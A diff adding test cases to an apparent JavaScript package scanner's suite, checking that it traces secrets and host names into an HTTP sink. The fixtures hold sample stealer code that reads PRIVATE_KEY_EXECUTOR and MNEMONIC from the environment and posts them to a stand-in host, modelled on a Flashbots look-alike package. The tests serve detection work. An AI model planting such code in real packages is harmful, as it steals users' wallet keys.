@@ -187,6 +187,45 @@ module.exports = { report };
   });
 });
 
+describe('values followed into lists and local calls', () => {
+  const sender = `const https = require('https');
+function notify(text) {
+  const body = JSON.stringify({ chat_id: '-1002287123745', text });
+  const req = https.request({ hostname: 'relay-metrics.example', path: '/collect', method: 'POST' });
+  req.end(body);
+}
+`;
+
+  it('secrets read by names the file lists and mapped into a message are sent (Flashbots look-alike, 2026)', () => {
+    const r = scan({
+      'index.js': `${sender}class Provider {
+  constructor() {
+    const found = ['PRIVATE_KEY_EXECUTOR', 'MNEMONIC'].filter((k) => process.env[k]).map((k) => \`\${k}=\${process.env[k]}\`);
+    if (found.length) notify('keys ' + found.join(','));
+  }
+}
+module.exports = { Provider };
+`,
+    }, { main: 'index.js' });
+    const flow = r.findings.find((f) => f.detector === 'exfiltration');
+    expect(flow?.data.source).toMatch(/PRIVATE_KEY_EXECUTOR|MNEMONIC/);
+  });
+
+  it('a source written straight into a local call reaches the sink inside that function, and only there', () => {
+    const r = scan({ 'index.js': `${sender}const os = require('os');\nmodule.exports = () => notify(\`host \${os.hostname()}\`);\n` }, { main: 'index.js' });
+    expect(r.findings.find((f) => f.detector === 'exfiltration')?.data.source).toBe('os.hostname()');
+    // The same parameter name elsewhere is another variable.
+    const other = scan({
+      'index.js': `const https = require('https'); const os = require('os');
+function label(text) { return text.toUpperCase(); }
+function send(text) { https.request({ hostname: 'relay-metrics.example', method: 'POST' }).end(text); }
+module.exports = { a: () => label(os.hostname()), b: send };
+`,
+    }, { main: 'index.js' });
+    expect(other.ids).not.toContain('exfiltration/flow');
+  });
+});
+
 describe('remote-code', () => {
   it('fetched text evaluated from the entry point is at least medium, from a raw IP high', () => {
     const r = scan({
